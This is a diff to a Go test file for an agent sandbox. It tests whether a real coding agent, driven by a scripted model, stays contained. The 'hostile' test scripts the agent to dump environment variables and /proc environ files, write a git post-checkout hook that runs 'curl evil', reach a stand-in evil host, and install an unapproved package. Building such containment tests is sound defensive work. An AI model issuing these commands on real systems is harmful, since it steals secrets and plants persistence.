@@ -1,19 +1,16 @@
 package launch_test
 
 import (
-	"encoding/json"
 	"fmt"
-	"io"
 	"net"
 	"net/http"
-	"net/http/httptest"
 	"os"
 	"os/exec"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
+	"github.com/proctor-project/proctor/sandbox/sandboxtest/model"
 	"github.com/proctor-project/proctor/sandbox/sandboxtest/need"
 )
 
@@ -35,86 +32,16 @@ func realRegistry(t *testing.T) string {
 	return strings.TrimSpace(string(out))
 }
 
-// toolCall is one thing that the scripted model does.
-type toolCall struct {
-	name string
-	args map[string]any
-}
-
-// model is a scripted server of the chat completions API: a tool call for each
-// question that has tools, then a text.
-type model struct {
-	*httptest.Server
-	mu    sync.Mutex
-	calls []toolCall
-	asked []string // the bodies
-	wrong int      // questions without the key
-}
-
-func newModel(t *testing.T, calls ...toolCall) *model {
-	m := &model{calls: calls}
-	m.Server = here(t, m.answer)
-	return m
-}
-
-// script says what the model does from here on.
-func (m *model) script(calls []toolCall) {
-	m.mu.Lock()
-	defer m.mu.Unlock()
-	m.calls = calls
-}
-
-// seen is how many calls are left, how many questions came without the key, and
-// what all of them said.
-func (m *model) seen() (left, wrong int, asked string) {
-	m.mu.Lock()
-	defer m.mu.Unlock()
-	return len(m.calls), m.wrong, strings.Join(m.asked, "\n")
-}
-
-func (m *model) answer(w http.ResponseWriter, r *http.Request) {
-	body, _ := io.ReadAll(r.Body)
-	m.mu.Lock()
-	defer m.mu.Unlock()
-	m.asked = append(m.asked, string(body))
-	if r.Header.Get("Authorization") != "Bearer "+canaryKey || r.URL.Path != "/v1/chat/completions" {
-		m.wrong++
-		http.Error(w, "no key for "+r.URL.Path, http.StatusUnauthorized)
-		return
-	}
-	var q struct {
-		Stream bool              `json:"stream"`
-		Tools  []json.RawMessage `json:"tools"`
-	}
-	_ = json.Unmarshal(body, &q)
-	delta, why := map[string]any{"role": "assistant", "content": "done"}, "stop"
-	if len(q.Tools) > 0 && len(m.calls) > 0 {
-		args, _ := json.Marshal(m.calls[0].args)
-		delta = map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{
-			"index": 0, "id": fmt.Sprintf("call_%d", len(m.calls)), "type": "function",
-			"function": map[string]any{"name": m.calls[0].name, "arguments": string(args)},
-		}}}
-		why, m.calls = "tool_calls", m.calls[1:]
-	}
-	part := func(kind, field string, v, end any) map[string]any {
-		return map[string]any{"id": "x", "object": kind, "created": 1, "model": "m", "choices": []any{map[string]any{"index": 0, field: v, "finish_reason": end}}}
-	}
-	if !q.Stream {
-		_ = json.NewEncoder(w).Encode(part("chat.completion", "message", delta, why))
-		return
-	}
-	w.Header().Set("Content-Type", "text/event-stream")
-	for _, p := range []map[string]any{part("chat.completion.chunk", "delta", delta, nil), part("chat.completion.chunk", "delta", map[string]any{}, why)} {
-		b, _ := json.Marshal(p)
-		_, _ = fmt.Fprintf(w, "data: %s\n\n", b)
-	}
-	_, _ = io.WriteString(w, "data: [DONE]\n\n")
+// newModel is a scripted model on the host's loopback interface.
+func newModel(t *testing.T) (*model.Model, string) {
+	m := model.New(canaryKey)
+	return m, here(t, m.ServeHTTP).URL
 }
 
 const codingAgent = "@qwen-code/qwen-code@0.24.4"
 
 // codingPolicy gives the agent a model, approved packages, and nothing else.
-func codingPolicy(t *testing.T, base string, m *model) string {
+func codingPolicy(t *testing.T, base, url string) string {
 	t.Helper()
 	base = strings.NewReplacer(
 		"timeout: 2m", "timeout: 8m", "argv: [sh, test.sh]", checkSum, "argv: [/bin/agent, pass]", checkSum,
@@ -126,7 +53,7 @@ func codingPolicy(t *testing.T, base string, m *model) string {
 `).Replace(npmPolicy(t, base, realRegistry(t)))
 	return base + `egress: {door: open}
 services:
-  - {name: model, base: "` + m.URL + `", auth: {kind: header, name: Authorization, prefix: "Bearer "}, secret: {keyring: model}, paths: [/v1/], methods: [POST]}
+  - {name: model, base: "` + url + `", auth: {kind: header, name: Authorization, prefix: "Bearer "}, secret: {keyring: model}, paths: [/v1/], methods: [POST]}
 `
 }
 
@@ -146,13 +73,8 @@ func (d *desk) code() *running {
 	return d.start("npx", "-y", codingAgent, "-p", "sum.sh is wrong, fix it", "--yolo", "--auth-type", "openai")
 }
 
-// fix is what an honest model does: the agent writes no file that it has not read.
-func fix(d *desk) []toolCall {
-	return []toolCall{
-		{"read_file", map[string]any{"file_path": d.path("site/sum.sh")}},
-		{"write_file", map[string]any{"file_path": d.path("site/sum.sh"), "content": "echo $(($1 + $2))\n"}},
-	}
-}
+// fix is what an honest model does.
+func fix(d *desk) []model.Call { return model.Rewrite(d.path("site/sum.sh"), "echo $(($1 + $2))\n") }
 
 // endsLate is ends for what takes minutes.
 func (r *running) endsLate(want int) {
@@ -170,8 +92,8 @@ func (r *running) endsLate(want int) {
 // fixes a bug; then the same agent, from the cache, with a model that turned hostile.
 func TestRealRegistryCodingAgent(t *testing.T) {
 	on(t, func(d *desk, policy string) {
-		m := newModel(d.T)
-		d.policy(codingPolicy(d.T, policy, m))
+		m, url := newModel(d.T)
+		d.policy(codingPolicy(d.T, policy, url))
 		d.must(os.MkdirAll(d.path("home/secrets"), 0o700))
 		d.must(os.WriteFile(d.path("home/secrets/model"), []byte(canaryKey+"\n"), 0o600))
 		if out, err := d.proctor("trust", "approve-package", "--closure", codingAgent, "--note", "our coding agent").CombinedOutput(); err != nil {
@@ -184,13 +106,13 @@ func TestRealRegistryCodingAgent(t *testing.T) {
 	})
 }
 
-func (d *desk) honest(m *model) {
+func (d *desk) honest(m *model.Model) {
 	d.Helper()
-	m.script(fix(d))
+	m.Script(fix(d)...)
 	r := d.code()
 	r.endsLate(0)
 	out := r.out.String()
-	if left, wrong, _ := m.seen(); left > 0 || wrong > 0 || strings.Contains(out, canaryKey) {
+	if left, wrong, _ := m.Seen(); left > 0 || wrong > 0 || strings.Contains(out, canaryKey) {
 		d.Errorf("%d calls are left, %d without the key:\n%s", left, wrong, out)
 	}
 	id := d.sessions()[0].ID
@@ -205,22 +127,19 @@ func (d *desk) honest(m *model) {
 	}
 }
 
-func (d *desk) hostile(m *model) {
+func (d *desk) hostile(m *model.Model) {
 	d.Helper()
-	shell := func(command string) toolCall {
-		return toolCall{"run_shell_command", map[string]any{"command": command, "is_background": false, "description": "x"}}
-	}
 	evil := here(d.T, func(http.ResponseWriter, *http.Request) { d.Error("another host was reached") })
-	m.script(append([]toolCall{
-		shell("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; ls /run/proctor"),
-		{"write_file", map[string]any{"file_path": d.path("site/.git/hooks/post-checkout"), "content": "#!/bin/sh\ncurl evil\n"}},
-		shell("curl -sS --noproxy '' -x http://127.0.0.1:3128 " + evil.URL + "; curl -sS -m 5 " + evil.URL),
-		shell("cd /tmp && npm install left-pad@1.3.0"),
-	}, fix(d)...))
+	m.Script(append([]model.Call{
+		model.Shell("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; ls /run/proctor"),
+		model.Write(d.path("site/.git/hooks/post-checkout"), "#!/bin/sh\ncurl evil\n"),
+		model.Shell("curl -sS --noproxy '' -x http://127.0.0.1:3128 " + evil.URL + "; curl -sS -m 5 " + evil.URL),
+		model.Shell("cd /tmp && npm install left-pad@1.3.0"),
+	}, fix(d)...)...)
 	r := d.code()
 	r.endsLate(1)
 	out := r.out.String()
-	left, _, asked := m.seen()
+	left, _, asked := m.Seen()
 	all := out + asked
 	if left > 0 || strings.Contains(all, canaryKey) {
 		d.Errorf("%d calls are left, or the key is inside:\n%s", left, out)
